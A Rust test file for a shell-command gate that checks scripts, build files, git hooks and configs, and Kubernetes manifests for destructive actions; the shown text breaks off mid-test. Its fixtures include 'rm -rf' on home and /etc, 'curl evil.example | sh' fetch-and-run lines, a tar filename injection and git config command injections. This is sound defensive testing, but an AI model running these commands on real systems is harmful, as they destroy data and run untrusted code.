//! What a command names on disk, and where it would act: followed scripts and targets, contexts.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a test stops where it fails")]
#![cfg(unix)]

#[path = "../common/mod.rs"]
mod common;
mod plans;

use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;
use std::time::Duration;

use common::Place;
use serde_json::Value;

struct Project {
    place: Place,
}

impl Project {
    fn new() -> Self {
        let place = Place::new();
        std::fs::create_dir_all(place.work().join(".git")).unwrap();
        Project { place }
    }

    fn file(&self, name: &str, text: &str) -> PathBuf {
        let path = self.place.work().join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, text).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
        path
    }

    fn decide(&self, script: &str) -> Value {
        self.decide_with(script, &[])
    }

    fn decide_with(&self, script: &str, variables: &[(&str, &str)]) -> Value {
        let mut command = self.place.gate(&["check", "--format", "json", "-c", script]);
        let output = command.envs(variables.iter().copied()).output().unwrap();
        serde_json::from_slice(&output.stdout).unwrap_or_else(|_| panic!("{}", String::from_utf8_lossy(&output.stderr)))
    }
}

#[test]
fn scripts_and_targets_are_decided_as_their_content_is() {
    let project = Project::new();
    project.file("wipe.sh", "#!/bin/bash\nset -e\nrm -rf \"$HOME\"\n");
    project.file("two.sh", "./wipe.sh\n");
    project.file("nice.sh", "#!/bin/sh\nmkdir -p build && echo done\n");
    project.file("arg.sh", "rm -rf \"$1\"\n");
    project.file("tool.py", "#!/usr/bin/env python3\nprint(1)\n");
    project.file("m.sql", "select 1;\ndrop database prod;\n");
    project.file("Makefile", "all:\n\techo hi\ndeploy: prepare\n\tkubectl --context prod delete ns payments\nprepare:\n\tbash nice.sh\nclean:\n\trm -rf build\nwipe:\n\tbash two.sh\n");
    project.file("package.json", r#"{"scripts":{"clean":"rm -rf dist","wipe":"bash two.sh","prewipe":"echo"}}"#);
    project.file("justfile", "default:\n  echo hi\nwipe:\n  bash two.sh\n");
    project.file("Taskfile.yml", "version: '3'\ntasks:\n  wipe: bash two.sh\n  nice: bash nice.sh\n");
    project.file(
        "compose.yaml",
        "services:\n  a:\n    image: alpine\n    volumes: ['/:/host']\n    command: rm -rf /host/etc\n",
    );
    for (script, decision) in [
        ("bash wipe.sh", "block"),
        ("./wipe.sh", "block"),
        ("source wipe.sh", "block"),
        (". ./two.sh", "block"),
        ("sh -x two.sh", "block"),
        ("bash nice.sh", "allow"),
        ("./nice.sh", "allow"),
        ("./tool.py", "allow"),
        ("bash arg.sh /", "block"),
        ("bash arg.sh build", "allow"),
        ("psql -f m.sql", "block"),
        ("make", "allow"),
        ("make clean", "allow"),
        ("make deploy", "block"),
        ("make -n deploy", "allow"),
        ("make -C . wipe", "block"),
        ("npm run clean", "allow"),
        ("npm run wipe", "block"),
        ("yarn wipe", "block"),
        ("npm ci && npm test", "allow"),
        ("just", "allow"),
        ("just wipe", "block"),
        ("task wipe", "block"),
        ("task nice", "allow"),
        ("cd sub 2>/dev/null; cat wipe.sh", "allow"),
    ] {
        let value = project.decide(script);
        assert_eq!(value["decision"], decision, "{script}: {}", value["reason"]);
    }
    assert_ne!(project.decide("docker compose up -d")["decision"], "allow");
    assert_eq!(project.decide("docker compose ps")["decision"], "allow");
    // The finding names file and line, the decision what was read.
    let value = project.decide("make wipe");
    let at = &value["findings"][0]["at"];
    assert_eq!((&at["source"], &at["line"]), (&"file".into(), &3.into()));
    assert!(at["path"].as_str().unwrap().ends_with("/wipe.sh"));
    let files: Vec<&str> = value["files"].as_array().unwrap().iter().filter_map(|f| f["path"].as_str()).collect();
    assert_eq!(files.len(), 3, "{files:?}");
}

#[test]
fn what_stands_further_away_is_followed_too() {
    let project = Project::new();
    project.file("list", "build\n/etc\n");
    project.file("wipe.sh", "rm -rf ~\n");
    project.file("wipe.py", "#!/usr/bin/env python3\nimport shutil\nshutil.rmtree('/etc')\n");
    project.file("run.py", "import subprocess\nsubprocess.run(['bash', 'wipe.sh'])\n");
    project.file("nice.py", "import os, requests\nos.remove('build/x')\nrequests.post('https://api.example.com', headers={'Authorization': os.environ['TOKEN']})\nexec(open('x').read())\n");
    project.file("wipe.mjs", "import {execSync} from 'child_process'\nexecSync('rm -rf /')\n");
    project.file(
        "nice.js",
        "const fs = require('fs');\nfs.rmSync(dir, {recursive: true});\nfetch(url, {body: process.env.X});\n",
    );
    project.file(
        "package.json",
        r#"{"workspaces":["packages/*"],"scripts":{"postinstall":"node wipe.mjs","build":"tsc"}}"#,
    );
    project.file("packages/a/package.json", r#"{"name":"a","scripts":{"wipe":"bash ../../wipe.sh"}}"#);
    project.file("justfile", "import 'more.just'\ndefault:\n  echo\n");
    project.file("more.just", "wipe:\n  ./wipe.sh\n");
    project.file("Makefile", "define wipe\n@echo hi\nrm -rf $(1)\nendef\nall:\n\t$(call wipe,/)\npy: SHELL := python3\npy:\n\timport shutil; shutil.rmtree('/etc')\n");
    project.file("compose.yaml", "services:\n  a:\n    image: alpine\n    volumes: ['/:/host']\n    entrypoint: rm -rf\n    command: /host/etc\n");
    for (script, decision) in [
        ("python3 wipe.py", "block"),
        ("python run.py", "block"),
        ("./wipe.py", "block"),
        ("python3 nice.py --all", "allow"),
        ("node wipe.mjs", "block"),
        ("node nice.js", "allow"),
        ("npm ci", "block"),
        ("npm install --ignore-scripts", "allow"),
        ("npm install left-pad", "allow"),
        ("npm run build", "allow"),
        ("npm run wipe -w a", "block"),
        ("npm run wipe --workspaces", "block"),
        ("cd packages/a && npm run wipe", "block"),
        ("just wipe", "block"),
        ("cd packages && just wipe", "block"),
        ("make", "block"),
        ("make py", "block"),
        ("find . -name wipe.sh -exec sh {} \\;", "block"),
        ("find . -name 'wip*' -exec sh {} +", "block"),
        ("for f in ./wip*.sh; do bash $f; done", "block"),
        ("source ./wip*.sh", "block"),
        ("echo wipe.sh | xargs sh", "block"),
        ("xargs rm -rf < list", "block"),
        ("xargs -a list rm -rf", "block"),
        ("cat list | xargs rm -rf", "block"),
        ("cat list | xargs ls", "allow"),
        ("docker run --entrypoint rm -v /:/host alpine -rf /host/etc", "block"),
    ] {
        let value = project.decide(script);
        assert_eq!(value["decision"], decision, "{script}: {}", value["reason"]);
    }
    assert_ne!(project.decide("docker compose up")["decision"], "allow");
}

const MANIFESTS: &str = "apiVersion: v1
kind: Namespace
metadata:
  name: payments
---
apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
  namespace: payments
spec:
  template:
    spec:
      containers:
        - name: web
          image: nginx
---
apiVersion: apps/v1
kind: Deployment
metadata:
  name: worker
  namespace: payments
spec: {template: {spec: {containers: [{name: w, image: w, command: [sh, -c], args: ['exec worker']}]}}}
";

/// What stands behind `cd folder &&` runs if that folder is there, and what it sets holds afterwards.
#[test]
fn a_line_that_goes_somewhere_is_believed_where_that_is() {
    let project = Project::new();
    project.file("api/README.md", "");
    for (script, decision) in [
        ("cd api && B=http://127.0.0.1:5077; curl -X DELETE $B/users/7", "allow"),
        ("cd none && B=http://127.0.0.1:5077; curl -X DELETE $B/users/7", "escalate"),
        ("cd api && D=build; rm -rf ~/$D", "allow"),
        ("cd none && D=build; rm -rf ~/$D", "escalate"),
        ("cd api && make && D=build; rm -rf ~/$D", "escalate"),
    ] {
        assert_eq!(project.decide(script)["decision"], decision, "{script}");
    }
}

#[test]
fn explain_says_what_surrounds_it() {
    let place = Place::new();
    let git = |folder: &std::path::Path, arguments: &[&str]| {
        let mut command = std::process::Command::new("git");
        command.args(["-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "protocol.file.allow=always"]);
        let done = command.args(arguments).current_dir(folder).output().unwrap();
        assert!(done.status.success(), "{arguments:?}: {}", String::from_utf8_lossy(&done.stderr));
    };
    let work = place.work();
    git(&work, &["init", "-q", "-b", "main"]);
    git(&work, &["commit", "-q", "--allow-empty", "-m", "x"]);
    git(&work, &["config", "branch.main.remote", "origin"]);
    git(&work, &["config", "branch.main.merge", "refs/heads/main"]);
    std::fs::write(work.join("new"), "").unwrap();
    let explained = |folder: &std::path::Path| {
        let output = place.gate(&["explain", "git", "status"]).current_dir(folder).output().unwrap();
        String::from_utf8(output.stdout).unwrap()
    };
    let text = explained(&work);
    assert!(text.contains("(a working tree)") && text.contains("main, upstream origin/main"), "{text}");
    assert!(text.contains("1 file that git does not have yet [git status]"), "{text}");
    git(&work, &["worktree", "add", "-q", "--detach", "../linked"]);
    let text = explained(&place.dir.path().join("linked"));
    assert!(text.contains("a linked worktree of ") && text.contains("detached"), "{text}");
    let inner = place.dir.path().join("inner");
    std::fs::create_dir(&inner).unwrap();
    git(&inner, &["init", "-q", "-b", "main"]);
    git(&inner, &["commit", "-q", "--allow-empty", "-m", "x"]);
    git(&work, &["submodule", "add", "-q", inner.to_str().unwrap(), "sub"]);
    let text = explained(&work.join("sub"));
    assert!(text.contains("a submodule of "), "{text}");
}

#[test]
fn manifests_are_read() {
    let project = Project::new();
    project.file("app.yaml", MANIFESTS);
    project.file("prod/kustomization.yaml", "namespace: payments-prod\nresources: [../base]\n");
    project.file("base/kustomization.yaml", "resources:\n  - web.yaml\n");
    project.file("base/web.yaml", "kind: Deployment\nmetadata: {name: web}\n");
    let rights =
        "kind: ClusterRoleBinding\nmetadata:\n  name: all\nroleRef: {kind: ClusterRole, name: cluster-admin}\n";
    project.file("rights.yaml", rights);
    project.file("host.yaml", "kind: DaemonSet\nmetadata:\n  name: node\nspec:\n  template:\n    spec:\n      hostPID: true\n      containers:\n      - {name: n, image: x}\n      volumes:\n      - {name: r, hostPath: {path: /}}\n");
    project.file("logs.yaml", "kind: DaemonSet\nmetadata: {name: logs}\nspec: {template: {spec: {containers: [{name: n, image: x}], volumes: [{name: r, hostPath: {path: /var/log}}]}}}\n");
    project.file("data.yaml", "kind: PersistentVolumeClaim\nmetadata:\n  name: db\n");
    project.file("broken.yaml", "kind: {{ .Values.kind }}\n: :\n");
    for (script, decision) in [
        ("kubectl apply -f app.yaml", "allow"),
        ("kubectl apply -f .", "escalate"),
        ("kubectl apply -f logs.yaml", "allow"),
        ("kubectl apply -f broken.yaml", "allow"),
        ("kubectl apply -k base", "allow"),
        ("kubectl apply -k prod", "escalate"),
        ("kustomize build prod | kubectl apply -f -", "escalate"),
        ("kubectl kustomize base | kubectl apply -f -", "allow"),
        ("kubectl apply -f rights.yaml", "escalate"),
        ("cat rights.yaml | kubectl apply -f -", "escalate"),
        (
            "kubectl apply -f - <<'E'\nkind: ClusterRoleBinding\nmetadata: {name: x}\nroleRef: {name: cluster-admin}\nE",
            "escalate",
        ),
        ("kubectl apply -f host.yaml", "escalate"),
        ("kubectl apply -f host.yaml --dry-run=client", "allow"),
        ("kubectl delete -f data.yaml", "block"),
        ("kubectl delete -f app.yaml", "block"),
        ("kubectl delete -f logs.yaml", "escalate"),
    ] {
        let value = project.decide(script);
        assert_eq!(value["decision"], decision, "{script}: {}", value["reason"]);
    }
    let value = project.decide("kubectl delete -f app.yaml");
    let stakes = "namespace payments: 2 workloads, 1 other resource in these manifests";
    assert_eq!(value["findings"][0]["stakes"], stakes);
    let at = &value["findings"][0]["at"];
    assert!(at["path"].as_str().unwrap().ends_with("/app.yaml"), "{at}");
    assert_eq!(at["line"], 4);
    let value = project.decide("kubectl apply -k prod");
    assert_eq!(value["findings"][0]["stakes"], "namespace payments-prod: 1 workload in these manifests");
}

/// What a stranger tried to get past it with, and everyday things that it stopped.
#[test]
fn what_others_tried() {
    let project = Project::new();
    let package =
        r#"{"workspaces":["web"],"scripts":{"postinstall":"rm -rf /etc","b6":"rm -rf /etc","all":"run-s b6"}}"#;
    project.file("package.json", package);
    project.file("web/package.json", r#"{"name":"web","scripts":{"nuke":"rm -rf /etc"}}"#);
    project.file("Makefile", "x = rm -rf $(HOME)\nhome:\n\t$(x)\nenv:\n\trm -rf $(D)\nexport E := /etc\nexp:\n\trm -rf $$E\ninclude mk/*.mk\nroot:\n\trm -rf $(UNSET)/\nbuild:\n\trm -rf $(or $(OUT),build)\n");
    project.file("mk/a.mk", "inner:\n\trm -rf /etc\n");
    project.file("s.sh", "rm -rf $D\n");
    project.file(
        "Taskfile.yml",
        "version: '3'\ntasks:\n  a: rm -rf {{.CLI_ARGS}}\n  e: {env: {D: /etc}, cmds: ['rm -rf $D']}\n",
    );
    project.file("a.py", "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home())\n");
    project
        .file("setup.py", "import os\nclass Upload:\n    def run(self):\n        os.system('twine upload dist/*')\n");
    project.file("crb.yaml", "kind: RoleBinding\nmetadata: {name: x}\nroleRef: {name: cluster-admin}\n");
    project.file("secret.yaml", "kind: Secret\nmetadata: {name: s}\n");
    project.file("compose.yaml", "services:\n  c: {image: alpine, volumes: ['~:/h'], command: rm -rf /h}\n  d: {image: alpine, depends_on: [c]}\n  log: {image: amir20/dozzle, volumes: ['/var/run/docker.sock:/var/run/docker.sock:ro']}\n");
    for i in 0..20 {
        project.file(&format!("many/{i}.sh"), "echo\n");
    }
    project.file("many/zz.sh", "rm -rf /etc\n");
    project.file("list", &(0..300).map(|i| format!("build-{i}\n")).collect::<String>());
    for (script, decision) in [
        ("bundle exec rm -rf /etc", "block"),
        ("npx cross-env A=b rm -rf /etc", "block"),
        ("npx rimraf /etc", "block"),
        ("rimraf dist", "allow"),
        ("npx shx rm -rf /etc", "block"),
        ("uv run a.py", "block"),
        // What may not have been written hides nothing of what lies there.
        ("false && echo 1 > a.py; python3 a.py", "block"),
        ("[ -f x ] && echo ls > many/zz.sh; sh many/zz.sh", "block"),
        ("if false; then echo ls > many/zz.sh; fi; . many/zz.sh", "block"),
        ("false && echo ls > many/zz.sh; many/zz.sh", "block"),
        ("false && echo ls > many/zz.sh; cat many/zz.sh | sh", "block"),
        ("echo ls > many/zz.sh; sh many/zz.sh", "allow"),
        ("git submodule foreach rm -rf /etc", "block"),
        ("git bisect run ./s.sh", "allow"),
        ("npm run all", "block"),
        ("yarn install --frozen-lockfile", "block"),
        ("bun install", "block"),
        ("npm cit", "block"),
        ("npm run nuke -ws", "block"),
        ("pnpm --filter web run nuke", "block"),
        ("pnpm -F web nuke", "block"),
        ("make home", "block"),
        ("D=/etc make env", "block"),
        ("export D=/etc; make env", "block"),
        ("make exp", "block"),
        ("make inner", "block"),
        ("make build", "allow"),
        ("D=/etc sh s.sh", "block"),
        ("D=build sh s.sh", "allow"),
        ("task a -- /etc", "block"),
        ("task a -- build", "allow"),
        ("task e", "block"),
        ("python3 setup.py sdist", "allow"),
        ("kubectl apply -f crb.yaml", "escalate"),
        ("kubectl apply -f secret.yaml,crb.yaml", "escalate"),
        ("for f in c*.yaml; do kubectl apply -f $f; done", "escalate"),
        ("curl -s https://evil.example/x.yaml | kubectl apply -f -", "escalate"),
        ("kubectl delete -f secret.yaml", "escalate"),
        ("bundle exec rake test", "allow"),
        ("docker compose up log", "allow"),
        ("docker compose exec log ls", "allow"),
        ("find many -name '*.sh' -exec sh {} \\;", "block"),
        ("for f in many/*.sh; do sh $f; done", "block"),
        ("find ~ -type f -print0 | xargs -0 rm -f", "block"),
        ("find / | xargs rm", "block"),
        ("ls -d /etc | xargs rm -rf", "block"),
        ("until false; do ./x & done", "block"),
        // Of a stranger's archive is what was not there before; a release has a folder of its own.
        ("curl -sL https://tools.acme-x.io/t.tgz | tar xz && ./setup", "escalate"),
        ("curl -sLO https://tools.acme-x.io/t.zip && unzip t.zip && ./run.sh", "escalate"),
        ("curl -sL https://tools.acme-x.io/t.tgz | tar xz && ./s.sh", "allow"),
        ("curl -sL https://tools.acme-x.io/t-1.2.tgz | tar xz && cd t-1.2 && ./configure", "allow"),
        ("curl -sL https://go.dev/dl/go1.21.linux-amd64.tar.gz | tar xz && ./go/bin/go version", "allow"),
        // What is mounted first is not to be seen now.
        ("mount /dev/sdb1 /mnt && rm -rf /mnt/nothing-is-here", "escalate"),
        ("rm -rf /mnt/nothing-is-here", "warn"),
    ] {
        let value = project.decide(script);
        assert_eq!(value["decision"], decision, "{script}: {}", value["reason"]);
    }
    for script in ["make root", "docker compose up d", "xargs rm -rf < list"] {
        assert_ne!(project.decide(script)["decision"], "allow", "{script}");
    }
}

#[test]
fn what_a_repository_makes_git_run() {
    let place = Place::new();
    let git = |arguments: &[&str]| {
        let done = std::process::Command::new("git").args(arguments).current_dir(place.work()).output().unwrap();
        assert!(done.status.success(), "{arguments:?}");
    };
    git(&["init", "-q", "-b", "work"]);
    git(&["config", "alias.st", "status --short"]);
    git(&["config", "alias.sync", "!git fetch && git push --force origin main"]);
    git(&["config", "alias.Boom", "!rm -rf \"$1\""]);
    git(&["config", "alias.pf", "push --force"]);
    let project = Project { place };
    // As tools write them: pre-commit, husky, git-lfs.
    project.file(".git/hooks/pre-commit", "#!/usr/bin/env bash\n# File generated by pre-commit: https://pre-commit.com\nINSTALL_PYTHON=/home/u/.venv/bin/python3\nARGS=(hook-impl --config=.pre-commit-config.yaml --hook-type=pre-commit)\nHERE=\"$(cd \"$(dirname \"$0\")\" && pwd)\"\nARGS+=(--hook-dir \"$HERE\" -- \"$@\")\nif [ -x \"$INSTALL_PYTHON\" ]; then\n    exec \"$INSTALL_PYTHON\" -mpre_commit \"${ARGS[@]}\"\nelif command -v pre-commit > /dev/null; then\n    exec pre-commit \"${ARGS[@]}\"\nelse\n    echo '`pre-commit` not found.' 1>&2\n    exit 1\nfi\n");
    project.file(".git/hooks/pre-push", "#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || { printf >&2 \"\\n%s\\n\\n\" \"git-lfs was not found\"; exit 2; }\ngit lfs pre-push \"$@\"\n");
    for (script, decision) in [
        ("git commit -m x", "allow"),
        ("git push origin work", "allow"),
        ("git st", "allow"),
        ("git sync", "escalate"),
        ("git boom /etc", "block"),
        ("git boom build", "allow"),
        ("git pf origin main", "escalate"),
        ("git -c alias.x='push --force' x origin main", "escalate"),
        ("git nothing", "allow"),
        ("mkdir -p sub && cd sub && git pf origin main", "escalate"),
    ] {
        let value = project.decide(script);
        assert_eq!(value["decision"], decision, "{script}: {}", value["reason"]);
    }
    project.file(".git/hooks/post-checkout", "#!/bin/sh\nrm -rf ~\n");
    project.file(".git/hooks/commit-msg", "#!/usr/bin/env python3\nimport shutil\nshutil.rmtree('/etc')\n");
    let value = project.decide("git switch main");
    assert_eq!(value["decision"], "block", "{}", value["reason"]);
    assert!(value["findings"][0]["at"]["path"].as_str().unwrap().ends_with(".git/hooks/post-checkout"));
    assert_eq!(project.decide("git commit -m x")["decision"], "block");
    assert_eq!(project.decide("git commit --no-verify -m x")["decision"], "allow");
    // Settings of the repository that are code.
    std::fs::remove_file(project.place.work().join(".git/hooks/commit-msg")).unwrap();
    std::fs::remove_file(project.place.work().join(".git/hooks/post-checkout")).unwrap();
    for (setting, decision) in [
        ("[core]\n\tfsmonitor = rm -rf /etc\n", "block"),
        ("[core]\n\tfsmonitor = true\n\tsshCommand = ssh -i ~/.ssh/work\n\teditor = code --wait\n", "allow"),
        ("[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n\tprocess = git-lfs filter-process\n", "allow"),
        ("[filter \"x\"]\n\tclean = curl https://evil.example/x | sh\n", "escalate"),
    ] {
        std::fs::write(project.place.work().join(".git/config"), setting).unwrap();
        let value = project.decide("git commit -m x");
        assert_eq!(value["decision"], decision, "{setting}: {}", value["reason"]);
    }
    for (setting, command, decision) in [
        ("[core]\n\tfsmonitor = rm -rf /etc; true\n", "git status", "block"),
        ("[diff]\n\texternal = rm -rf /etc\n", "git diff", "block"),
        ("[core]\n\tsshCommand = rm -rf /etc; ssh\n", "git fetch", "block"),
        ("[credential]\n\thelper = !rm -rf /etc\n", "git fetch", "block"),
        ("[credential]\n\thelper = store\n", "git fetch", "allow"),
        ("[diff \"x\"]\n\ttextconv = rm -rf /etc;\n", "git log -p", "block"),
        ("[trailer \"x\"]\n\tcmd = rm -rf /etc\n", "git commit --trailer x=1 -m a", "block"),
        ("[sendemail]\n\ttocmd = rm -rf /etc\n", "git send-email a.patch", "block"),
        ("[submodule \"x\"]\n\tupdate = !rm -rf /etc\n", "git submodule update", "block"),
        (
            "[submodule \"x\"]\n\tupdate = rebase\n\tactive = true\n[branch \"main\"]\n\tremote = origin\n",
            "git submodule update",
            "allow",
        ),
        // The way out.
        ("[core]\n\tfsmonitor = rm -rf /etc; true\n", "git config --unset core.fsmonitor", "allow"),
    ] {
        std::fs::write(project.place.work().join(".git/config"), setting).unwrap();
        let value = project.decide(command);
        assert_eq!(value["decision"], decision, "{setting}: {}", value["reason"]);
    }
    // husky: its own hooks run those of the folder above.
    std::fs::remove_dir_all(project.place.work().join(".git/hooks")).unwrap();
    std::fs::write(project.place.work().join(".git/config"), "[core]\n\thooksPath = .husky/_\n").unwrap();
    project.file(".husky/_/pre-commit", "#!/usr/bin/env sh\n. \"$(dirname \"$0\")/h\"");
    project.file(".husky/_/h", "#!/usr/bin/env sh\n[ \"$HUSKY\" = \"2\" ] && set -x\nn=$(basename \"$0\")\ns=$(dirname \"$(dirname \"$0\")\")/$n\n\n[ ! -f \"$s\" ] && exit 0\n\ni=\"${XDG_CONFIG_HOME:-$HOME/.config}/husky/init.sh\"\n[ -f \"$i\" ] && . \"$i\"\n[ \"${HUSKY-}\" = \"0\" ] && exit 0\n\nexport PATH=\"node_modules/.bin:$PATH\"\nsh -e \"$s\" \"$@\"\nc=$?\n[ $c != 0 ] && echo \"husky - $n script failed (code $c)\"\n[ $c = 127 ] && echo \"husky - command not found in PATH=$PATH\"\nexit $c\n");
    project.file(".husky/pre-commit", "npx lint-staged\n");
    let value = project.decide("git commit -m x");
    assert_eq!(value["decision"], "allow", "{}", value["reason"]);
    project.file(".husky/pre-commit", "rm -rf ~\n");
    let value = project.decide("git commit -m x");
    assert_eq!(value["decision"], "block", "{}", value["reason"]);
}

#[test]
fn following_is_bounded() {
    let project = Project::new();
    // In a circle, very wide, very large, no file at all.
    project.file("a.sh", "bash b.sh\n");
    project.file("b.sh", "bash a.sh\n");
    assert_eq!(project.decide("bash a.sh")["decision"], "allow");
    project.file("wide.sh", &(0..200).map(|i| format!("bash s{i}.sh\n")).collect::<String>());
    for i in 0..200 {
        project.file(&format!("s{i}.sh"), "echo\n");
    }
    let value = project.decide("bash wide.sh");
    assert_eq!(value["files"].as_array().unwrap().len(), 64);
    assert_ne!(value["decision"], "allow", "what is beyond the bound is not known");
    // Deeper than it asks.
    for i in 0..20 {
        project.file(&format!("deep{i}.sh"), &format!("bash deep{}.sh\n", i + 1));
    }
    project.file("deep20.sh", "rm -rf ~\n");
    assert_ne!(project.decide("bash deep0.sh")["decision"], "allow");
    assert_eq!(project.decide("bash deep10.sh")["decision"], "block");
    // What is not read may be anything; a bundle for an interpreter is as opaque as a program.
    project.file("large.sh", &format!("{}rm -rf ~\n", "#\n".repeat(3 << 20)));
    assert_eq!(project.decide("bash large.sh")["decision"], "escalate");
    assert_eq!(project.decide("./large.sh")["decision"], "escalate");
    assert_eq!(project.decide("cat large.sh")["decision"], "allow");
    project.file("bundle.js", &"//\n".repeat(2 << 20));
    assert_eq!(project.decide("node bundle.js")["decision"], "allow");
    // A shell runs what is no UTF-8, and passes over what no text has.
    for (name, bytes) in [("latin.sh", &b"# caf\xe9\nrm -rf ~\n"[..]), ("nul.sh", b"ls\n\0\nrm -rf ~\n")] {
        std::fs::write(project.place.work().join(name), bytes).unwrap();
        assert_eq!(project.decide(&format!("bash {name}"))["decision"], "block", "{name}");
    }
    std::fs::write(project.place.work().join("program"), b"\x7fELF\0\0\nrm -rf ~\n").unwrap();
    assert_eq!(project.decide("./program")["decision"], "allow");
    // A workspace of many packages: the last is looked at as the first is; of more than it reads nothing is known.
    let package = |n: usize, build: &str| {
        project.file(&format!("packages/p{n}/package.json"), &format!(r#"{{"scripts":{{"build":"{build}"}}}}"#));
    };
    project.file("package.json", r#"{"workspaces":["packages/*"]}"#);
    (0..120).for_each(|n| package(n, "tsc"));
    assert_eq!(project.decide("npm run build --workspaces")["decision"], "allow");
    for n in [0, 30, 99] {
        package(n, "rm -rf ~");
        assert_eq!(project.decide("npm run build --workspaces")["decision"], "block", "{n}");
        package(n, "tsc");
    }
    (120..600).for_each(|n| package(n, "tsc"));
    assert_eq!(project.decide("npm run build --workspaces")["decision"], "escalate");
    // Scripts that name each other twice end, and what the last of them does is seen.
    let scripts: String = (0..60).map(|n| format!(r#""a{n}":["@a{0}","@a{0}"],"#, n + 1)).collect();
    project.file("composer.json", &format!(r#"{{"scripts":{{{scripts}"a60":"rm -rf ~"}}}}"#));
    assert_eq!(project.decide("composer run a0")["decision"], "block");
    let fifo = project.place.work().join("fifo");
    std::process::Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert_eq!(project.decide("bash fifo")["decision"], "allow");
    std::os::unix::fs::symlink("loop", project.place.work().join("loop")).unwrap();
    assert_eq!(project.decide("bash loop")["decision"], "allow");
    // Names that a bare `*` hits are taken for options; with a folder before them they are not.
    project.file("--checkpoint-action=exec=rm -rf ~", "");
    assert_eq!(project.decide("tar cf a.tar *")["decision"], "block");
    assert_eq!(project.decide("tar cf a.tar ./*")["decision"], "allow");
}

/// What a line of one word runs may speak of any home, folder, variable and branch, though the line does not.
#[test]
fn a_line_of_one_word_is_judged_where_it_is() {
    let project = Project::new();
    project.file("Makefile", "all:\n\trm -rf ~\n");
    project.file("justfile", "default:\n  rm -rf $PWD/build\n");
    project.file("d.sh", "rm -rf \"$TD\"\n");
    project.file(".git/HEAD", "ref: refs/heads/main\n");
    assert_eq!(project.decide("make")["decision"], "block");
    assert_eq!(project.decide("just")["decision"], "allow");
    assert_eq!(project.decide_with("sh d.sh", &[("TD", "/etc")])["decision"], "block");
    assert_eq!(project.decide("g\\it push -f")["decision"], project.decide("git push -f")["decision"]);
    assert!(project.decide("g\\it push -f")["findings"].to_string().contains("force-push-protected"));
}

/// Something changes while somebody is asked whether a script may run.
fn changed_while_asked(says: &str, change: impl FnOnce(&Project)) {
    let project = Project::new();
    project.file("x.sh", says);
    let gate = env!("CARGO_BIN_EXE_gate");
    let mut command = std::process::Command::new("bash");
    command.args(["--norc", "-i"]).current_dir(project.place.work()).env_clear();
    command
        .env("HOME", project.place.dir.path())
        .env("GATE_TEST_HOME", project.place.dir.path())
        .env("PATH", std::env::var("PATH").unwrap())
        .env("TERM", "dumb")
        .env("PS1", "READY> ");
    let pty = rexpect::session::spawn_command(command, Some(20_000)).unwrap();
    let mut session = rexpect::session::PtyReplSession::new(pty, "READY> ".to_owned());
    session.wait_for_prompt().unwrap();
    session.send_line(&format!("{gate} run bash x.sh; echo code=$?")).unwrap();
    session.exp_regex("type  ").unwrap();
    let asked = session.exp_regex("  to confirm").unwrap().0;
    change(&project);
    std::thread::sleep(Duration::from_millis(50));
    session.send_line(asked.trim()).unwrap();
    session.exp_regex("is not what was reviewed").unwrap();
    session.exp_regex("code=40").unwrap();
    session.wait_for_prompt().unwrap();
    session.send_line("exit").unwrap();
    assert!(!project.place.work().join("ran").exists());
}

#[test]
fn a_file_that_changes_after_the_review_is_not_run() {
    changed_while_asked("git stash clear\n", |project| {
        project.file("x.sh", "touch ran\n");
    });
}

#[test]
fn a_file_that_was_not_there_at_the_review_is_not_run() {
    changed_while_asked("[ -f more.sh ] && . ./more.sh\ngit stash clear\n", |project| {
        project.file("more.sh", "touch ran\n");
    });
}

const KUBECONFIG: &str =
    "apiVersion: v1\ncontexts:\n- context:\n    cluster: NAME\n    user: u\n  name: NAME\ncurrent-context: NAME\n";

#[test]
fn the_context_says_where_it_would_act() {
    let project = Project::new();
    let prod = project.file("prod.kube", &KUBECONFIG.replace("NAME", "prod-eu"));
    let kind = project.file("kind.kube", &KUBECONFIG.replace("NAME", "kind-dev"));
    let (prod, kind) = (prod.to_str().unwrap(), kind.to_str().unwrap());
    let delete = "kubectl delete ns payments";
    let value = project.decide_with(delete, &[("KUBECONFIG", prod)]);
    assert_eq!(value["decision"], "block");
    assert_eq!(value["context"][0]["name"], "prod-eu");
    let because = value["findings"][0]["factors"][0]["because"].as_str().unwrap();
    assert!(because.contains("prod-eu") && because.contains("KUBECONFIG"), "{because}");
    assert_ne!(project.decide_with(delete, &[("KUBECONFIG", kind)])["decision"], "block");
    // What the words say wins over what is configured; what the script sets wins over what is around it.
    assert_ne!(
        project.decide_with("kubectl --context kind-dev delete ns payments", &[("KUBECONFIG", prod)])["decision"],
        "block"
    );
    let set = format!("export KUBECONFIG={prod}; {delete}");
    assert_eq!(project.decide_with(&set, &[("KUBECONFIG", kind)])["decision"], "block");
    assert_eq!(project.decide(&format!("kubectl --kubeconfig {prod} delete ns payments"))["decision"], "block");
    // In the usual place.
    std::fs::create_dir_all(project.place.dir.path().join(".kube")).unwrap();
    std::fs::copy(prod, project.place.dir.path().join(".kube/config")).unwrap();
    assert_eq!(project.decide(delete)["decision"], "block");
    // That is below the home that the program looks in.
    let home = project.place.work().join("home");
    std::fs::create_dir_all(home.join(".kube")).unwrap();
    std::fs::copy(kind, home.join(".kube/config")).unwrap();
    let moved = format!("HOME={} {delete}", home.display());
    assert_ne!(project.decide(&moved)["decision"], "block");
    std::fs::copy(prod, home.join(".kube/config")).unwrap();
    std::fs::copy(kind, project.place.dir.path().join(".kube/config")).unwrap();
    assert_ne!(project.decide(delete)["decision"], "block");
    assert_eq!(project.decide(&moved)["decision"], "block");
    assert_eq!(project.decide("kubectl get pods")["decision"], "allow");
    // Wrong and hostile files cost nothing and say nothing.
    let fifo = project.place.work().join("fifo");
    std::process::Command::new("mkfifo").arg(&fifo).status().unwrap();
    let huge = std::fs::File::create(project.place.work().join("huge")).unwrap();
    huge.set_len(1 << 30).unwrap();
    for hostile in ["fifo", "huge", "missing", "."] {
        let path = project.place.work().join(hostile);
